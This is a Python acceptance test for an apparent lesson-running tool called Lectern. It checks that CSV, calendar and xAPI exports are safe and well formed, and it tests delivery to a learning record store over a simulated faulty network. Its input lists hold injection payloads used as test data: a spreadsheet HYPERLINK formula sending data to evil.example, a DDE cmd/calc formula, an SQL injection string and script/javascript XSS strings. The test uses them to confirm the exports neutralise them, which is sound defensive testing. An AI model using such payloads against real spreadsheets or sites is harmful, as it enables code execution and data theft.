"""Holds what Lectern hands to other programs against those programs' own readers: tables (Python's csv, DuckDB),
calendars (icalendar), statements (Ralph's models), and sends statements to a real learning record store, by way of a
network that fails in every way that a network can.

    python3 -m pip install 'jsonschema>=4.20' icalendar 'ralph-malph[full]' duckdb
    PATH=.build/release:$PATH python3 Tests/Acceptance/exchange.py
"""

import csv
import datetime
import http.server
import io
import json
import os
import pathlib
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
import uuid

import duckdb
import icalendar
from jsonschema import Draft202012Validator
from ralph.models.xapi.base.statements import BaseXapiStatement

PYTHON = pathlib.Path(sys.executable).parent

# Names and texts as nobody should type them and somebody will.
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "+Ben; DROP TABLE x--", "Zoë, \"Z\" <b>&amp;</b>",
    "@SUM(1+1)*cmd|' /C calc'!A0", "שלום \u200f)מור(", "👩🏽‍🚀 Cyd 🇺🇳", "-2+3", "line{}[]#|* _x_ `y`", "＝1+1",
]
TEXTS = [
    "=1+1", "+1", "-1", "@x", "a,b;c\td\"e\"", "two\nlines\r\nand three", "<script>alert(1)</script> & </td>",
    "\u200f=SUM(A1)\u200f עברית", "👩🏽‍🚀" * 50, "x" * 2000, "%00 \\n \\, \\; BEGIN:VCALENDAR", "::~={}#:: $CATEGORY: x",
    "[markdown](javascript:alert(1)) | pipe | table", "é e\u0301 ﬃ İ ẞ",
]

PLAN = """
# =cmd|' /C calc'!A0, "quoted"; <b>bold</b> \\ שלום 🚀

**Duration:** 30 minutes
**Target Audience:** Anybody

## Learning Objectives
* Explain <i>why</i>

## Lesson Structure
### Engage
**Duration:** 20 minutes

**Learner Activities:** Think; write, "and" \\ talk — für alle, 日本語で、ずっと長い一行になるまで書き続けるとどうなるか見てみましょう

#### Poll (choose any): =Which, "one"?
- =1+1
- <b>b</b>
- 🚀

Assesses: 1

#### Quiz: Who lights the stove?
- Ada
- [x] Nobody

#### Words: +One word

#### Scale ("a heap" to "a shop window"): How tidy?

#### Rank: What first?
- Rota
- Shelf

#### Q&A

#### Question: What comes to mind?

#### Worksheet: One rule
- =Rule
- Keeper

#### Map: Place these
- Stove
- =Rota

#### Rubric: The rules
- Clear
- =Kind

#### Reflect: Looking back
- What surprised you?
- =What next?

#### Question (anonymous): What did you hide?

#### Poll (anonymous): Would you?
- Yes
- No

### Evaluate
**Duration:** 10 minutes
"""
OPEN = "start\n" + "".join(f"open engage-{number}\n" for number in range(1, 14))


def answers(names=NAMES, teams=("=Red", "Blue, \"B\"", "🚀")):
    entries = []
    for index, name in enumerate(names):
        team = teams[index % len(teams)]
        other = teams[(index + 1) % len(teams)]
        text = TEXTS[index % len(TEXTS)]

        def add(activity, **answer):
            entries.append({"learner": name, "team": team, "activity": f"engage-{activity}", **answer})

        add(1, choices=[1 + index % 3, 1 + (index + 1) % 3])
        add(2, choices=[1 + index % 2])
        add(3, words=[text.split("\n")[0][:40], "busy"])
        add(4, value=1 + index % 5)
        add(5, order=[2, 1] if index % 2 else [1])
        add(6, text=text + "?")
        add(7, text=text)
        add(8, fields=[text, name])
        add(9, placements={"Stove": [0.1 * (index % 10), 0.5]}, links=[["Stove", "=Rota"]])
        if len(teams) > 1:
            add(10, scores=[1 + index % 4, 2], comment=text, scoredTeam=other)
        add(10, scores=[3, 1 + index % 4], ownTeam=True)
        add(11, answers=[text, TEXTS[-1 - index % len(TEXTS)]])
        add(12, text=f"secret {text}")
        add(13, choices=[1 + index % 2])
    return entries


def lectern(*arguments, text="", status=0, environment=None):
    done = subprocess.run(
        ["lectern", *arguments], input=text, capture_output=True, text=True, timeout=120,
        env={**os.environ, **(environment or {})},
    )
    if status is not None and done.returncode != status:
        sys.exit(f"lectern {' '.join(arguments)}: {done.returncode} instead of {status}\n{done.stdout}\n{done.stderr}")
    return done


def session(folder, entries, script="", end="end\n"):
    """A session in which these entries were handed in."""
    (folder / "plan.md").write_text(PLAN)
    (folder / "answers.json").write_text(json.dumps(entries))
    before = set((folder / "sessions").glob("*")) if (folder / "sessions").exists() else set()
    take = f"submit {folder}/answers.json\n" if entries else ""
    lectern("run", str(folder / "plan.md"), "--plain", "--in", str(folder / "sessions"), text=OPEN + take + script + end + "quit\n")
    made = (set((folder / "sessions").glob("*")) - before).pop()
    lectern("export", str(made))
    lectern("verify", str(made))
    return made


def expect(condition, sentence):
    if not condition:
        sys.exit(f"not so: {sentence}")


# Tables.


def table(path):
    raw = path.read_bytes()
    expect(raw.startswith(b"\xef\xbb\xbf"), f"{path.name} begins with a byte order mark")
    expect(raw.endswith(b"\r\n"), f"{path.name} ends with CR LF")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True))
    expect(all(len(row) == len(rows[0]) for row in rows), f"{path.name} has as many cells in every row")
    for row in rows[1:]:
        for name, cell in zip(rows[0], row):
            first = cell.lstrip("\u200f\u200e \t\r\n")[:1]
            number = name in ("value", "score", "votes") or name.endswith("_seconds")
            expect(number or first not in tuple("=+-@＝＋－＠") or cell == "", f"{path.name}: {name} {cell[:40]!r} is no formula")
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def plain(cell):
    """A cell without the apostrophe that makes it harmless."""
    return cell[1:] if cell.startswith("'") and cell[1:].lstrip("\u200f ")[:1] in tuple("=+-@＝＋－＠") else cell


def tables(folder, results, count):
    people = table(folder / "attendance.csv")
    expect([plain(row["name"]) for row in people] == [learner["name"] for learner in results["learners"]], "everybody attended")
    rows = table(folder / "answers.csv")
    texts = sorted(plain(row["answer"]) for row in rows if row["activity"] == "engage-7")
    expect(texts == sorted(answer["text"] for answer in results["questions"][0]["answers"]), "texts are those that were written")
    for poll in results["polls"]:
        for choice in poll["choices"]:
            chosen = [row for row in rows if row["activity"] == poll["activity"]["id"] and row["value"] == str(choice["choice"])]
            expect(len(chosen) == choice["count"], f"{poll['activity']['id']} has {choice['count']} × {choice['choice']}")
    secret = [row for row in rows if row["activity"] in ("engage-12", "engage-13")]
    expect(len(secret) == 2 * count and not any(row["name"] + row["learner"] + row["team"] for row in secret), "nobody is named in secret")
    scores = table(folder / "scores.csv")
    counted = sum(len(team["sheets"]) for rubric in results["rubrics"] for team in rubric["teams"]) * 2
    expect(sum(row["own"] == "no" and row["counts"] == "yes" for row in scores) == counted, "every sheet that counts is there")
    timing = table(folder / "timing.csv")
    expect([int(row["actual_seconds"]) for row in timing if row["item"]] == [item["actualSeconds"] for item in results["timing"]], "times agree")
    for name in ("attendance", "answers", "scores", "timing"):
        duckdb.sql(f"select * from read_csv('{folder / name}.csv', header=true, all_varchar=true, strict_mode=true)").fetchall()
    return len(people) + len(rows) + len(scores) + len(timing)


# Calendars.


def calendar(text, titles):
    for line in text.split("\r\n"):
        expect(len(line.encode()) <= 75, f"a line of the calendar has {len(line.encode())} bytes")
    parsed = icalendar.Calendar.from_ical(text)
    expect(not parsed.errors and parsed["VERSION"] == "2.0" and "PRODID" in parsed, "the calendar is one")
    events = list(parsed.walk("VEVENT"))
    expect([str(event["SUMMARY"]) for event in events] == titles, f"summaries are {titles}: {[str(e['SUMMARY']) for e in events]}")
    for event in events:
        expect(not event.errors and "DTSTAMP" in event and event["DTEND"].dt > event["DTSTART"].dt, "an entry has its times")
        expect(event["DTSTART"].dt.tzinfo is not None, "times are in UTC")
        uuid.UUID(str(event["UID"]))
    return events


def calendars(folder, results):
    title = results["title"]
    ran = [item for item in results["timing"] if "startedAt" in item]
    events = calendar((folder / "agenda.ics").read_bytes().decode(), [f"{item['title']}: {title}" for item in ran])
    for event, item in zip(events, ran):
        started = datetime.datetime.fromisoformat(item["startedAt"].replace("Z", "+00:00")).replace(microsecond=0)
        expect(event["DTSTART"].dt == started, "an entry begins when the item began")
    expect("日本語" in str(events[0]["DESCRIPTION"]) and ";" in str(events[0]["DESCRIPTION"]), "the description is whole")
    plan = folder.parent.parent / "plan.md"
    shown = [
        lectern("show", str(plan), "--format", "ics", "--start", start, "--date", "2026-11-21", environment={"TZ": "Europe/Berlin"}).stdout
        for start in ("14:00", "15:00")
    ]
    first, later = (calendar(text.replace("\r\n", "\n").replace("\n", "\r\n"), [f"Engage: {title}", f"Evaluate: {title}"]) for text in shown)
    expect([str(event["UID"]) for event in first] == [str(event["UID"]) for event in later], "a later start moves the entries")
    expect(first[0]["DTSTART"].dt == datetime.datetime(2026, 11, 21, 13, tzinfo=datetime.timezone.utc), "14:00 in Berlin is 13:00")
    expect(first[1]["DTSTART"].dt == first[0]["DTEND"].dt, "one item begins when the other ends")
    return len(events)


# Statements.


def statements(folder, results, schema):
    listed = json.loads((folder / "xapi.json").read_text())
    for fault in schema.iter_errors(listed):
        sys.exit(f"xapi.json: {fault.json_path}: {fault.message[:200]}")
    for statement in listed:
        BaseXapiStatement.model_validate(statement)
    ids = [statement["id"] for statement in listed]
    expect(len(set(ids)) == len(ids), "no identifier stands twice")
    lectern("export", str(folder), "--format", "xapi")
    expect(json.loads((folder / "xapi.json").read_text()) == listed, "a second export is the same")
    by_verb = {}
    for statement in listed:
        by_verb.setdefault(statement["verb"]["display"]["en"], []).append(statement)
    expect(len(by_verb.get("attended", [])) == len(results["learners"]), "everybody attended")
    lectern_space = uuid.uuid5(uuid.NAMESPACE_URL, "urn:lectern")
    own = uuid.uuid5(lectern_space, f"session {results['createdAt']} {results['plan']} {results['title']}")
    for number, statement in enumerate(by_verb.get("attended", []), 1):
        expect(statement["id"] == str(uuid.uuid5(own, f"attended l{number}")), "identifiers are UUIDs of version 5")
    for statement in listed:
        if any(statement["object"]["id"].endswith(f"#engage-{number}") for number in (12, 13)):
            expect(statement["actor"]["account"]["name"] == "anonymous" and "name" not in statement["actor"], "secrets are nobody's")
            expect("team" not in statement["context"], "secrets are no team's")
    sheets = sum(len(team["sheets"]) for rubric in results["rubrics"] for team in rubric["teams"])
    others = [s for s in by_verb.get("scored", []) if "extensions" not in s["context"]]
    expect(len(others) == 2 * sheets, f"{2 * sheets} scores of others count, {len(others)} are there")
    try:
        BaseXapiStatement.model_validate({**(listed or [{}])[0], "verb": {"id": "no address"}})
        sys.exit("the validator accepts what is wrong")
    except ValueError:
        pass
    return len(listed)


# A store, and a network that fails.


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


# `ralph runserver -b fs` takes one request and refuses the next, because its file is there then. With this it is the same
# store, which adds to the file.
APPENDING = """
import sys, uvicorn
from ralph.backends.data.base import BaseOperationType
from ralph.backends.data.fs import FSDataBackend
FSDataBackend.default_operation_type = BaseOperationType.APPEND
from ralph.api import app
uvicorn.run(app, host="127.0.0.1", port=int(sys.argv[1]), log_level="warning")
"""


class Store:
    """Ralph on a port of its own, with a folder of its own."""

    def __init__(self, folder, appending):
        self.folder = folder
        self.appending = appending
        self.environment = {
            **os.environ, "RALPH_APP_DIR": str(folder), "RALPH_RUNSERVER_BACKEND": "fs", "RALPH_BACKENDS__LRS__FS__DEFAULT_DIRECTORY_PATH": str(folder / "lrs"),
        }
        (folder / "lrs").mkdir(parents=True)
        add = [PYTHON / "ralph", "auth", "-u", "U", "-p", "a secret", "-s", "all", "-N", "n", "-M", "mailto:n@example.org", "-w"]
        subprocess.run(add, env=self.environment, check=True, capture_output=True, cwd=folder)
        self.port = free_port()
        self.address = f"http://127.0.0.1:{self.port}/xAPI"

    def __enter__(self):
        self.log = open(self.folder / "ralph.log", "w")
        plain = [PYTHON / "ralph", "runserver", "-b", "fs", "-h", "127.0.0.1", "-p", str(self.port)]
        command = [sys.executable, "-c", APPENDING, str(self.port)] if self.appending else plain
        self.process = subprocess.Popen(command, env=self.environment, stdout=self.log, stderr=self.log, cwd=self.folder)
        for _ in range(300):
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=1):
                    return self
            except OSError:
                time.sleep(0.1)
        sys.exit("Ralph does not start:\n" + (self.folder / "ralph.log").read_text())

    def __exit__(self, *_):
        self.process.terminate()
        self.process.wait(timeout=20)
        self.log.close()

    def stored(self):
        lines = []
        for path in (self.folder / "lrs").rglob("*.jsonl"):
            lines += [json.loads(line) for line in path.read_text().splitlines()]
        return lines


class Network(http.server.BaseHTTPRequestHandler):
    """Passes requests on to the store, or does what the next word of its script says instead."""

    script = []
    target = ""

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        word = Network.script.pop(0) if Network.script else "pass"
        if word == "reset":
            self.connection.close()
        elif word == "slow":
            time.sleep(3)
        elif word == "html":
            self.reply(200, b"<!DOCTYPE html>\x1b[31m<p>Welcome to the hotel's Wi-Fi!")
        elif word == "numbers":
            self.reply(200, b"[1, 2, 3]")
        elif word == "others":
            self.reply(200, json.dumps([str(uuid.uuid4())]).encode())
        elif word.isdigit():
            self.reply(int(word), b'{"detail": "no \x1b[31mway"}')
        else:
            status, answer = self.forward(body)
            if word == "lost":
                self.connection.close()
            else:
                self.reply(status, answer)

    def forward(self, body):
        request = urllib.request.Request(Network.target, data=body, method="POST")
        for name in ("Authorization", "Content-Type", "X-Experience-API-Version"):
            if self.headers[name]:
                request.add_header(name, self.headers[name])
        try:
            with urllib.request.urlopen(request) as answer:
                return answer.status, answer.read()
        except urllib.error.HTTPError as error:
            return error.code, error.read()

    def reply(self, status, body):
        self.send_response(status)
        if 300 <= status < 400:
            self.send_header("Location", "http://127.0.0.1:1/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def send(folder, address, status=0, attempts=6, user="U", password="a secret", wait=2):
    arguments = ["export", str(folder), "--format", "xapi", "--to", address, "--attempts", str(attempts), "--wait", str(wait)]
    done = lectern(*arguments, status=status, environment={"LECTERN_LRS_USER": user, "LECTERN_LRS_PASSWORD": password})
    said = done.stdout + done.stderr
    expect(password not in said and "\x1b" not in said, f"neither passwords nor control characters in {said!r}")
    expect("Trying again" not in said or attempts > 1, said)
    return said


def deliveries(folder, running, scratch):
    count = len(json.loads((folder / "xapi.json").read_text()))
    expect(count > 500, f"{count} statements are more than one request")
    store = Store(scratch / "store", appending=True)
    proxy = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Network)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{proxy.server_port}/xAPI"
    Network.target = f"{store.address}/statements"

    said = send(folder, f"http://127.0.0.1:{free_port()}/xAPI", status=74, attempts=2)
    expect("cannot be reached" in said and f"0 of {count} statements" in said, said)
    with store:
        for script, sentence in {
            "html": "no learning record store", "numbers": "no learning record store", "others": "no learning record store",
            "302": "another address", "404": "There is no learning record store", "400": "refuses the statements (400)",
            "401": "does not let you in", "503": "cannot be reached: it answered 503", "slow": "cannot be reached",
            "reset": "cannot be reached",
        }.items():
            Network.script = [script]
            said = send(folder, address, status=74, attempts=1)
            expect(sentence in said and "Nothing is lost" in said, f"{script}: {said}")
        expect(store.stored() == [], "nothing has come through so far")
        said = send(folder, store.address, status=74, password="wrong")
        expect("does not let you in" in said, said)

        Network.script = ["503", "pass", "lost", "reset"]
        said = send(folder, address, status=74, attempts=2)
        expect(f"500 of {count} statements are there for certain" in said, said)
        expect(len(store.stored()) > 500, "one request more came through, and its answer was lost")
        Network.script = ["slow", "429"]
        said = send(folder, address, attempts=4)
        expect(f"has {count} statements" in said, said)
        expect(sorted(line["id"] for line in store.stored()) == ids(folder), "every statement is there once")
        send(folder, store.address + "/")
        send(folder, store.address + "/statements")
        expect(len(store.stored()) == count, "sent three times, there once")

        # What is there in other words stays as it is, and does not hold up the others.
        other = scratch / "other"
        subprocess.run(["cp", "-r", str(folder), str(other)], check=True)
        lines = store.stored()
        lines[7]["verb"] = {"id": "http://adlnet.gov/expapi/verbs/experienced"}
        path = next((store.folder / "lrs").rglob("*.jsonl"))
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))
        said = send(other, store.address)
        expect(f"It has {lines[7]['id']} in other words" in said, said)
        expect(len(store.stored()) == count, "still there once")

        said = send(running, store.address, status=1)
        expect("is not over" in said, said)
        for bad in ("http://U:a%20secret@127.0.0.1/xAPI", "http:///x"):
            expect("secret" not in lectern("export", str(folder), "--format", "xapi", "--to", bad, status=64).stderr, bad)
        lectern("export", str(folder), "--format", "csv", "--to", address, status=64)
        done = lectern("export", str(folder), "--format", "xapi", "--to", address, status=74, environment={"PATH": str(scratch_path(scratch))})
        expect("needs the program curl" in done.stderr, done.stderr)
    proxy.shutdown()
    return count


def delivery_as_documented(folder, scratch):
    """The store as its own command starts it."""
    with Store(scratch / "plain", appending=False) as store:
        send(folder, store.address)
        send(folder, store.address)
        expect(sorted(line["id"] for line in store.stored()) == ids(folder), "every statement is there once")


def scratch_path(scratch):
    """A search path with `lectern` and `env` on it and no `curl`."""
    folder = scratch / "bin"
    folder.mkdir(exist_ok=True)
    for name in ("lectern", "env"):
        found = subprocess.run(["sh", "-c", f"command -v {name}"], capture_output=True, text=True, check=True).stdout.strip()
        if not (folder / name).exists():
            (folder / name).symlink_to(pathlib.Path(found).resolve())
    return folder


def ids(folder):
    return sorted(statement["id"] for statement in json.loads((folder / "xapi.json").read_text()))


# A thousand journals.



def many(folder, scratch):
    """The query of the guide, over a thousand copies of one journal."""
    guide = lectern("template", "show", "exchange").stdout
    query = guide.split("```sql\n")[1].split("```")[0]
    thousand = scratch / "thousand"
    for number in range(1000):
        (thousand / str(number)).mkdir(parents=True)
        os.link(folder / "journal.jsonl", thousand / str(number) / "journal.jsonl")
    started = time.monotonic()
    rows = duckdb.sql(query.replace("sessions/", f"{thousand}/")).fetchall()
    seconds = time.monotonic() - started
    results = json.loads((folder / "results.json").read_text())
    expected = sorted(
        (results["title"], poll["activity"]["id"], choice["choice"], choice["count"] * 1000)
        for poll in results["polls"] for choice in poll["choices"] if choice["count"]
    )
    expect(sorted(rows) == expected, f"the query gives {rows[:5]} instead of {expected[:5]}")
    print(f"a thousand journals of {results['title'][:10]}…: {len(rows)} rows in {seconds:.2f} s")


def guide():
    """The guide's commands for a store have names and options that Ralph knows."""
    text = lectern("template", "show", "exchange").stdout
    ralph = [line.split() for line in text.splitlines() if line.strip().startswith("ralph ")]
    expect({words[1] for words in ralph} == {"auth", "runserver"}, f"the guide starts a store: {ralph}")
    for words in ralph:
        known = subprocess.run([PYTHON / "ralph", words[1], "--help"], capture_output=True, text=True, check=True).stdout
        for word in words[2:]:
            expect(not word.startswith("-") or f"  {word}," in known, f"ralph {words[1]} has {word}")
    exports = [line.split()[1:] for line in text.splitlines() if line.strip().startswith("export RALPH_")]
    for names in exports:
        backend = dict(word.split("=", 1) for word in names)
        kind = backend["RALPH_RUNSERVER_BACKEND"]
        class_ = {"es": "ESLRSBackend", "clickhouse": "ClickHouseLRSBackend"}[kind]
        program = f"""
from ralph.conf import settings
from ralph.backends.lrs.{kind} import {class_} as Backend
print(settings.RUNSERVER_BACKEND, Backend().settings)
"""
        said = subprocess.run(
            [sys.executable, "-c", program], env={**os.environ, **backend}, capture_output=True, text=True, check=True
        ).stdout
        expect(said.startswith(kind), f"Ralph takes the backend: {said}")
        for name, value in backend.items():
            expect(value in said, f"Ralph takes {name}: {said}")
        # What the guide makes there before Ralph starts.
        made = {"es": ["DEFAULT_INDEX='statements'"], "clickhouse": ["DATABASE='xapi'", "EVENT_TABLE_NAME='xapi_events_all'"]}
        expect(all(word in said for word in made[kind]), f"Ralph looks where the guide says: {said}")
    expect(len(exports) == 2, "the guide tells of two")


def main():
    guide()
    with tempfile.TemporaryDirectory() as name:
        scratch = pathlib.Path(name)
        schema = Draft202012Validator(json.loads(lectern("schema", "xapi").stdout))
        Draft202012Validator.check_schema(schema.schema)
        expect(not schema.is_valid([{"id": "1"}]), "the schema of statements refuses what is none")
        rooms = {
            "everybody": answers(), "nobody": [], "one team": answers(teams=("Alone",)),
            "one reviewer": answers(names=NAMES[:1]), "two": answers(names=NAMES[4:6]),
        }
        made = {}
        for room, entries in rooms.items():
            folder = made[room] = session(scratch, entries)
            results = json.loads((folder / "results.json").read_text())
            rows = tables(folder, results, len({entry["learner"] for entry in entries}))
            entries = calendars(folder, results)
            listed = statements(folder, results, schema)
            print(f"{room}: {rows} rows, {entries} calendar entries, {listed} statements, all accepted")
        running = session(scratch, answers(), end="")
        calendar((running / "agenda.ics").read_bytes().decode(), [f"{item}: {results['title']}" for item in ("Engage", "Evaluate")])
        delivery_as_documented(made["everybody"], scratch)
        crowd = session(scratch, answers(names=[f"{name[:55]}{number}" for number in range(4) for name in NAMES]))
        print(f"sent to Ralph: {deliveries(crowd, running, scratch)} statements, each once")
        many(made["everybody"], scratch)


main()
